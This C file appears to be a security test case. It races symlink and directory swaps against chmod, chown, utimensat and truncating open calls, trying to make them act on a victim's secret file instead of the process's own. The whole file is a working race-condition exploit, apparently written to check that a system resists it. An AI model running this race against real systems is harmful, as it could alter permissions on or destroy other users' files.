// The name of the file changes while the question whether its mode may be changed is looked at; so does where the name leads.
#include <pthread.h>
#include <time.h>
#include "attack.h"
static volatile int is_over;
static char name[4096];
static void *flip_name(void *unused) {
  while (!is_over) {
    strcpy(name, "own/secret");
    strcpy(name, VICTIM "/secret");
  }
  return unused;
}
static void *flip_directory(void *unused) {
  while (!is_over) {
    rename("own", "aside");
    symlink(VICTIM, "own");
    unlink("own");
    rename("aside", "own");
  }
  return unused;
}
int main(void) {
  pthread_t one, two;
  mkdir("own", 0700);
  close(open("own/secret", O_CREAT | O_WRONLY, 0600));
  pthread_create(&one, NULL, flip_name, NULL);
  pthread_create(&two, NULL, flip_directory, NULL);
  time_t end = time(NULL) + 4;
  for (int i = 0; i < 1500 && time(NULL) < end; i++) {
    chmod(name, 0640);
    chmod("own/secret", 0640);
    chmod(i & 1 ? "own" : name, 0750);
    utimensat(AT_FDCWD, "own/secret", NULL, 0);
    chown("own/secret", (uid_t)-1, (gid_t)-1);
    open("own/secret", O_RDWR | O_TRUNC | O_CREAT, 0600);
    if (i % 50 == 49) for (int fd = 3; fd < 200; fd++) close(fd);
  }
  is_over = 1;
  pthread_join(one, NULL);
  pthread_join(two, NULL);
  return EXPECTED;
}
